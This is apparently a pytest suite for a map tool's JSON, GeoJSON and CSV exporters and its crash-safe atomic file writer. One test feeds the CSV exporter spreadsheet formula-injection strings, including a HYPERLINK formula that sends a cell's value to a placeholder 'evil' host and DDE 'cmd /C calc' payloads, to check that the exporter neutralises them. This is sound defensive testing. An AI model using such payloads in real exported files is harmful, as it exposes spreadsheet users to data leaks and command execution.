"""The JSON, GeoJSON and CSV exports, and the atomic file writer under them."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
from pathlib import Path

import fs_faults
import pytest
from fs_faults import null_device

from mapviewer import atomic, export
from mapviewer.errors import ExportError, MapviewerError

TEXT = (
    'Officials met in Kuala Lumpur, "Malaysia\'s capital", on Monday.\n'
    "Then they flew to Gyeongju; South Korea hosted APEC, and Chinese officials came too."
)


@pytest.fixture
def result(make_result, places):
    return make_result(
        [
            (
                'Talks, "quoted", and more',
                TEXT,
                [
                    ("Kuala Lumpur", places["kl"]),
                    ("Malaysia", places["malaysia"]),
                    ("Gyeongju", places["gyeongju"]),
                    ("South Korea", places["korea"]),
                    ("Chinese", places["china"], "demonym"),
                ],
            ),
            (
                "Second",
                "China and Malaysia. Europe too.",
                [("China", places["china"]), ("Europe", places["europe"])],
            ),
        ]
    )


def test_records_point_back_into_the_document(result):
    records = export.mention_records(result)
    assert len(records) == len(result.resolutions) == 7
    for record in records:
        doc = result.document(record["document"])
        assert doc.text[record["start"] : record["end"]] == record["text"]
        assert record["passage_start"] <= record["start"] < record["end"] <= record["passage_end"]
        assert doc.text[record["passage_start"] : record["passage_end"]] == record["passage"]
        assert set(record) == set(export.MENTION_FIELDS)
    gyeongju = next(r for r in records if r["text"] == "Gyeongju")
    assert gyeongju["passage"].startswith("Then they flew to Gyeongju")
    assert gyeongju["passage"].endswith("came too.")
    assert (gyeongju["place_id"], gyeongju["kind"], gyeongju["country_code"]) == (
        "city:1842225",
        "city",
        "KR",
    )
    chinese = next(r for r in records if r["text"] == "Chinese")
    assert (chinese["place_id"], chinese["form"]) == ("country:CN", "demonym")


def test_continents_are_exported_as_regions(result):
    europe = next(r for r in export.mention_records(result) if r["text"] == "Europe")
    assert europe["kind"] == "region"
    assert europe["country_code"] is None


def test_json_holds_documents_and_mentions(result):
    data = json.loads(export.to_json(result))
    assert [d["id"] for d in data["documents"]] == ["doc0", "doc1"]
    assert data["mentions"] == export.mention_records(result)


def test_geojson_is_an_rfc7946_feature_collection(result):
    data = json.loads(json.dumps(export.to_geojson(result)))
    assert data["type"] == "FeatureCollection"
    by_id = {f["id"]: f for f in data["features"]}
    assert len(by_id) == len(data["features"]) == len(result.places())
    for feature in data["features"]:
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        props = feature["properties"]
        assert props["count"] == len(props["mentions"])
    # [longitude, latitude]: Kuala Lumpur is at 101.7 E, 3.1 N.
    assert by_id["city:1735161"]["geometry"]["coordinates"] == [101.68653, 3.1412]
    china = by_id["country:CN"]["properties"]
    assert china["count"] == 2
    assert {m["text"] for m in china["mentions"]} == {"Chinese", "China"}
    assert {m["document"] for m in china["mentions"]} == {"doc0", "doc1"}


def test_geojson_bloc_lists_members(make_result, places):
    result = make_result([("t", "ASEAN met.", [("ASEAN", places["asean"])])])
    (feature,) = export.to_geojson(result)["features"]
    assert feature["properties"]["members"] == list(places["asean"].members)
    assert feature["properties"]["kind"] == "bloc"


def test_streamed_geojson_writes_each_mention_in_its_place(make_result, places):
    """Features are written a mention at a time; the text is still exactly the dumped collection, with a
    bloc's members after its mentions and a mention of a document not in the result left out."""
    text = "ASEAN met ASEAN. Then ASEAN and China and ASEAN."
    result = make_result([("t", text, [("ASEAN", places["asean"]), ("China", places["china"])])])
    orphan = result.resolutions[0]
    result.resolutions.append(type(orphan)(type(orphan.mention)("gone", 0, 5, "ASEAN"), places["asean"], 0.5))
    streamed = "".join(export.geojson_chunks(result))
    assert streamed == json.dumps(export.to_geojson(result), ensure_ascii=False, indent=1) + "\n"
    asean = next(f for f in json.loads(streamed)["features"] if f["id"] == "bloc:ASEAN")["properties"]
    assert asean["count"] == len(asean["mentions"]) == 4
    assert list(asean)[-1] == "members"


def test_csv_quotes_commas_quotes_and_newlines(make_result, places):
    text = 'He said, "Kuala Lumpur,\nfine".'
    result = make_result([('Title, with "quotes"', text, [("Kuala Lumpur", places["kl"])])])
    out = export.to_csv(result)
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["document_title"] == 'Title, with "quotes"'
    assert row["text"] == "Kuala Lumpur"
    assert "Kuala Lumpur,\nfine" in row["passage"]
    assert row["place_id"] == "city:1735161"
    assert float(row["lat"]) == pytest.approx(3.1412)
    assert list(rows[0].keys()) == list(export.MENTION_FIELDS)


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil/q="&A1,"Kuala Lumpur")',
        "+cmd|' /C calc'!A0 Kuala Lumpur",
        "-2+3+cmd|' /C calc'!A0 Kuala Lumpur",
        "@SUM(1+1)*cmd|' /C calc'!A0 Kuala Lumpur",
        "\t=1+1 Kuala Lumpur",
        "\r=1+1 Kuala Lumpur",
    ],
)
def test_csv_neutralises_text_a_spreadsheet_would_run(make_result, places, hostile):
    title = hostile.split(" Kuala")[0]
    text = hostile + " is in Malaysia, at -3 degrees of nothing."
    result = make_result([(title, text, [("Kuala Lumpur", places["kl"]), ("Malaysia", places["malaysia"])])])
    rows = list(csv.DictReader(io.StringIO(export.to_csv(result), newline="")))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers (a negative longitude) may start with a minus
        assert row["document_title"] == "'" + title  # the text is kept, shown as text
        passage = text[int(row["passage_start"]) : int(row["passage_end"])]
        expected = "'" + passage if passage.startswith(("=", "+", "-", "@", "\t", "\r")) else passage
        assert row["passage"] == expected
    # Cells that were safe are untouched.
    assert {r["text"] for r in rows} == {"Kuala Lumpur", "Malaysia"}


def test_csv_keeps_negative_coordinates_numeric(make_result, places):
    from mapviewer.model import Place

    lima = Place("city:3936456", "Lima", "city", -12.04318, -77.02824, "PE", 7737002)
    rows = list(csv.DictReader(io.StringIO(export.to_csv(make_result([("t", "Lima.", [("Lima", lima)])])))))
    assert float(rows[0]["lat"]) == -12.04318 and float(rows[0]["lon"]) == -77.02824


def test_streamed_exports_are_the_documents_as_json_would_write_them(result, make_result):
    payload = {
        "documents": [
            {"id": d.id, "title": d.title, "source": d.source, "date": d.date} for d in result.documents
        ],
        "mentions": export.mention_records(result),
    }
    assert export.to_json(result) == json.dumps(payload, ensure_ascii=False, indent=2) + "\n"
    geojson = "".join(export.geojson_chunks(result))
    assert geojson == json.dumps(export.to_geojson(result), ensure_ascii=False, indent=1) + "\n"
    empty = make_result([("t", "Nothing here.", [])])
    assert json.loads(export.to_json(empty))["mentions"] == []
    assert json.loads("".join(export.geojson_chunks(empty)))["features"] == []
    assert len(list(export.csv_chunks(result))) >= 1


def test_geojson_credits_its_data(result):
    collection = json.loads("".join(export.geojson_chunks(result)))
    assert "GeoNames" in collection["attribution"] and "CC BY 4.0" in collection["attribution"]
    assert "ODbL" in collection["attribution"]
    assert list(collection)[:2] == ["type", "attribution"]


def test_csv_has_one_row_per_mention_and_empty_cells_for_none(result):
    rows = list(csv.DictReader(io.StringIO(export.to_csv(result), newline="")))
    assert len(rows) == len(result.resolutions)
    europe = next(r for r in rows if r["text"] == "Europe")
    assert europe["country_code"] == ""


def test_write_functions_write_what_to_functions_return(tmp_path, result):
    assert export.write_json(result, tmp_path / "a.json").read_text("utf-8") == export.to_json(result)
    assert json.loads(export.write_geojson(result, tmp_path / "a.geojson").read_text("utf-8")) == (
        export.to_geojson(result)
    )
    assert export.write_csv(result, tmp_path / "a.csv").read_bytes() == export.to_csv(result).encode()
    html = export.write_map_html(result, tmp_path / "map.html").read_text("utf-8")
    assert html.startswith("<!DOCTYPE html>") and "mapviewer-data" in html


# ---- atomic_write ----


def test_atomic_write_text_bytes_and_chunks(tmp_path):
    target = tmp_path / "out.txt"
    export.atomic_write(target, "héllo")
    assert target.read_text("utf-8") == "héllo"
    export.atomic_write(target, b"\x00\x01")
    assert target.read_bytes() == b"\x00\x01"
    export.atomic_write(target, (part for part in ["a", b"b", "c"]))
    assert target.read_bytes() == b"abc"
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]


def test_a_crash_mid_write_keeps_the_old_file(tmp_path):
    target = tmp_path / "map.html"
    target.write_text("old map")

    def crashing():
        yield "<html>half of the new"
        raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError, match="disk on fire"):
        export.atomic_write(target, crashing())
    assert target.read_text() == "old map"
    assert [p.name for p in tmp_path.iterdir()] == ["map.html"], "the temporary file is cleaned up"


def test_a_full_disk_keeps_the_old_file_and_leaves_no_temporary_file(tmp_path):
    with fs_faults.tmpfs(tmp_path / "small", size="256k") as disk:
        target = disk / "data.csv"
        target.write_text("old")
        with pytest.raises(ExportError, match="the disk is full"):
            export.atomic_write(target, "x" * 1_000_000)
        assert target.read_text() == "old"
        assert [p.name for p in disk.iterdir()] == ["data.csv"]
        assert shutil.disk_usage(disk).used < 64 * 1024, "the half-written data was freed"


def test_a_full_disk_with_named_temporary_files_cleans_up_too(tmp_path, monkeypatch):
    # Where O_TMPFILE is missing, the named temporary file must go as well.
    monkeypatch.setattr(atomic, "_unnamed_works", lambda folder: False)
    with fs_faults.tmpfs(tmp_path / "small", size="256k") as disk:
        target = disk / "data.csv"
        target.write_text("old")
        with pytest.raises(ExportError, match="the disk is full"):
            export.atomic_write(target, "x" * 1_000_000)
        assert target.read_text() == "old"
        assert [p.name for p in disk.iterdir()] == ["data.csv"]


def test_a_read_only_folder_is_a_clear_error(tmp_path):
    with (
        fs_faults.tmpfs(tmp_path / "ro", read_only=True) as folder,
        pytest.raises(ExportError, match="read-only"),
    ):
        export.atomic_write(folder / "map.html", "x")


def test_refuses_to_write_over_a_folder(tmp_path):
    folder = tmp_path / "maps"
    folder.mkdir()
    with pytest.raises(ExportError, match="is a folder"):
        export.atomic_write(folder, "x")
    assert folder.is_dir() and not any(folder.iterdir())


def test_refuses_to_write_into_a_missing_folder(tmp_path):
    with pytest.raises(ExportError, match="does not exist") as info:
        export.atomic_write(tmp_path / "nowhere" / "map.html", "x")
    assert isinstance(info.value, MapviewerError)
    assert not (tmp_path / "nowhere").exists()


def test_write_map_html_checks_the_target_first(tmp_path, result):
    with pytest.raises(ExportError, match="does not exist"):
        export.write_map_html(result, tmp_path / "missing" / "map.html")


def test_replaced_file_keeps_its_permissions(tmp_path):
    target = tmp_path / "shared.html"
    target.write_text("old")
    target.chmod(0o644)
    export.atomic_write(target, "new")
    assert target.stat().st_mode & 0o777 == 0o644


def test_new_file_is_not_private(tmp_path):
    # mkstemp creates 0600 files; an exported map should be as readable as any file the user saves.
    umask = os.umask(0o022)
    try:
        path = export.atomic_write(tmp_path / "new.html", "x")
    finally:
        os.umask(umask)
    assert path.stat().st_mode & 0o777 == 0o644


# ---- targets that are not regular files ----


def test_a_device_node_is_written_into_not_replaced(tmp_path):
    node = null_device(tmp_path)
    export.atomic_write(node, "x" * 100_000)
    assert stat.S_ISCHR(node.lstat().st_mode), "the device node is still a device"
    assert [p.name for p in tmp_path.iterdir()] == ["null"]


def test_dev_null_stays_a_device():
    export.atomic_write("/dev/null", "anything")
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_a_fifo_with_a_reader_receives_the_data(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader is there before the write
    try:
        export.atomic_write(fifo, ["first,", b"second"])
        assert os.read(reader, 1000) == b"first,second"
    finally:
        os.close(reader)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert [p.name for p in tmp_path.iterdir()] == ["pipe"]


def test_a_fifo_nobody_reads_is_refused_at_once(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(ExportError, match="FIFO that nothing is reading"):
        export.atomic_write(fifo, "x")
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


def test_a_symlink_keeps_pointing_at_its_target_which_is_replaced(tmp_path):
    real = tmp_path / "maps" / "real.html"
    real.parent.mkdir()
    real.write_text("old")
    real.chmod(0o640)
    link = tmp_path / "latest.html"
    link.symlink_to(Path("maps") / "real.html")
    export.atomic_write(link, "new")
    assert link.is_symlink() and os.readlink(link) == str(Path("maps") / "real.html")
    assert real.read_text() == "new" and real.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["latest.html", "maps", "real.html"]


def test_a_dangling_symlink_creates_its_target(tmp_path):
    link = tmp_path / "out.json"
    link.symlink_to(tmp_path / "target.json")
    export.atomic_write(link, "{}")
    assert link.is_symlink() and (tmp_path / "target.json").read_text() == "{}"


def test_a_symlink_loop_is_a_clear_error(tmp_path):
    (tmp_path / "a").symlink_to(tmp_path / "b")
    (tmp_path / "b").symlink_to(tmp_path / "a")
    with pytest.raises(ExportError, match="cannot write"):
        export.atomic_write(tmp_path / "a", "x")


def test_a_file_name_with_an_escape_is_shown_escaped(tmp_path):
    with pytest.raises(ExportError) as info:
        export.atomic_write(tmp_path / "gone\x1b[2J" / "map.html", "x")
    assert "\x1b" not in str(info.value) and "gone\\x1b[2J" in str(info.value)


def test_cli_output_to_a_device_and_a_symlink(tmp_path, article_text=TEXT):
    doc = tmp_path / "article.txt"
    doc.write_text(article_text)
    node = null_device(tmp_path)
    done = fs_faults.run_cli("-q", "extract", doc, "--format", "csv", "-o", node)
    assert done.returncode == 0, done.stderr
    assert stat.S_ISCHR(node.lstat().st_mode)
    real = tmp_path / "real.html"
    real.write_text("old")
    (tmp_path / "link.html").symlink_to(real)
    done = fs_faults.run_cli("-q", "export", doc, "-o", tmp_path / "link.html")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "link.html").is_symlink() and real.read_text().startswith("<!DOCTYPE html>")


# ---- a writer killed mid-write ----

_KILLED_WRITER = """
import sys
from mapviewer import atomic
if sys.argv[2] == "named":
    atomic._unnamed_works = lambda folder: False  # as on a file system without O_TMPFILE

def chunks():
    yield "<html>" + "half of a big new map " * 50_000
    print("writing", flush=True)
    sys.stdin.read()  # wait here, mid-write, until killed
    yield "the end"

atomic.atomic_write(sys.argv[1], chunks())
"""


def _kill_mid_write(target, how: str) -> None:
    proc = subprocess.Popen(
        [sys.executable, "-c", _KILLED_WRITER, str(target), how],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        cwd=fs_faults.REPO,
    )
    try:
        assert proc.stdout.readline() == "writing\n"
        proc.send_signal(signal.SIGKILL)
    finally:
        proc.wait()
    assert proc.returncode == -signal.SIGKILL


def test_a_killed_writer_leaves_the_old_file_and_no_temporary_file(tmp_path):
    target = tmp_path / "map.html"
    target.write_text("old map")
    for _ in range(10):
        _kill_mid_write(target, "unnamed")
        assert target.read_text() == "old map"
        assert [p.name for p in tmp_path.iterdir()] == ["map.html"]


def test_without_o_tmpfile_the_next_write_removes_what_killed_writers_left(tmp_path, monkeypatch):
    target = tmp_path / "map.html"
    target.write_text("old map")
    for _ in range(5):
        _kill_mid_write(target, "named")
        # Each writer removes what the one before left: at most the last one's file remains.
        left = [p.name for p in tmp_path.iterdir() if p.name != "map.html"]
        assert len(left) == 1 and left[0].startswith(".map.html."), left
    (tmp_path / "other.txt").write_text("not ours")
    monkeypatch.setattr(atomic, "_unnamed_works", lambda folder: False)
    export.atomic_write(target, "new map")
    assert target.read_text() == "new map"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["map.html", "other.txt"]
